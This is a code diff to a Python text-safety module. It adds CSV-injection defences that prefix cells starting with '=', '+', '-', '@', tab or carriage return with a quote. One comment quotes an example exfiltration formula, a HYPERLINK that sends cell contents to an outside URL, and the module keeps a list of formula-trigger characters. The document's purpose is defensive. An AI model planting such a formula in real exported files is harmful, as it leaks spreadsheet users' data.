@@ -1,17 +1,23 @@
-"""User text as data: which characters a spec's name and description may hold, and file names made from them.
+"""User text as data: which characters a spec's name and description may hold, file names made from them,
+and CSV files that a spreadsheet opens without running anything.
 
 A spec's name and description travel to places that give some characters a meaning: a
 generated script's comments (where a line break ends the comment), a terminal (escape
 sequences), a download's file name (path separators), UTF-8 files, pages and URLs (which
-cannot hold a lone surrogate). This module says which characters are refused at the spec
-boundary and turns text into a file name that is only ever a name. Plain Python: no
-TensorFlow, no Streamlit.
+cannot hold a lone surrogate), and a spreadsheet, which runs a CSV cell that starts with '='
+as a formula. This module says which characters are refused at the spec boundary, turns text
+into a file name that is only ever a name, and writes every CSV the app and the CLI give out
+(`csv_text`). Plain Python (pandas only inside `csv_text`): no TensorFlow, no Streamlit.
 """
 
 from __future__ import annotations
 
 import re
 import unicodedata
+from typing import TYPE_CHECKING, Any
+
+if TYPE_CHECKING:
+    import pandas as pd
 
 # Refused everywhere: C0 and C1 control characters (NUL, ESC for terminal escape sequences,
 # CR, form feed, U+0085, ...), the Unicode line and paragraph separators, and lone surrogates,
@@ -85,3 +91,58 @@ def safe_file_name(stem: str, suffix: str = "", default: str = "spec") -> str:
     if cleaned.split(".")[0].upper() in _WINDOWS_DEVICES:
         cleaned = f"{default}_{cleaned}"
     return cleaned + suffix
+
+
+# The first characters that make Excel, LibreOffice or Google Sheets read a CSV cell as a formula
+# (OWASP, "CSV Injection"): '=HYPERLINK("http://...?x="&A1, "details")' sends the sheet's cells away.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_text(value: Any) -> Any:
+    """A CSV cell that a spreadsheet shows as text: text starting with a formula character gets a leading "'".
+
+    Anything that is not text (a number, a negative one too, NaN, None) comes back unchanged.
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def csv_text(frame: pd.DataFrame) -> str:
+    """`frame` as CSV text (no index) in which no cell is a live spreadsheet formula.
+
+    Text cells and column names that start with '=', '+', '-', '@', a tab or a carriage return are
+    prefixed with a single quote, as OWASP advises, so a spreadsheet shows them as written; numeric
+    and boolean columns are written as numbers, negative ones included. A carriage return inside a
+    cell is quoted with it (the file's lines then end in "\\r\\n"). Every CSV that sharecore gives
+    out (downloads, the CLI's files) is written by this function.
+
+    Args:
+        frame: any table, e.g. a run's history or `sharecore.compare.curves`.
+
+    Returns:
+        The CSV text, as `DataFrame.to_csv(index=False)` writes it.
+
+    Example:
+        >>> import pandas as pd
+        >>> print(csv_text(pd.DataFrame({"run": ["=1+1", "lr -1"], "loss": [-0.5, 2.0]})), end="")
+        run,loss
+        '=1+1,-0.5
+        lr -1,2.0
+    """
+    from pandas.api.types import is_bool_dtype, is_numeric_dtype
+
+    safe = frame.copy(deep=False)
+    carriage_return = any(isinstance(column, str) and "\r" in column for column in frame.columns)
+    for i in range(frame.shape[1]):  # by position: column names need not be unique
+        values = frame.iloc[:, i]
+        if not (is_numeric_dtype(values) or is_bool_dtype(values)):
+            # Categories and pandas' string dtype too: as objects, so a prefixed value needs no new category.
+            values = values.astype(object)
+            safe.isetitem(i, values.map(spreadsheet_text))
+            carriage_return = carriage_return or any(isinstance(v, str) and "\r" in v for v in values)
+    safe.columns = [spreadsheet_text(column) for column in frame.columns]
+    # Python's csv writer quotes a cell that holds a line break only if the break is in its line terminator. A
+    # spreadsheet ends a row at a lone "\r" too, and the rest of the cell would start a cell of its own: with
+    # "\r\n" (RFC 4180's own) such cells are quoted. Other files keep "\n".
+    return safe.to_csv(index=False, lineterminator="\r\n" if carriage_return else "\n")
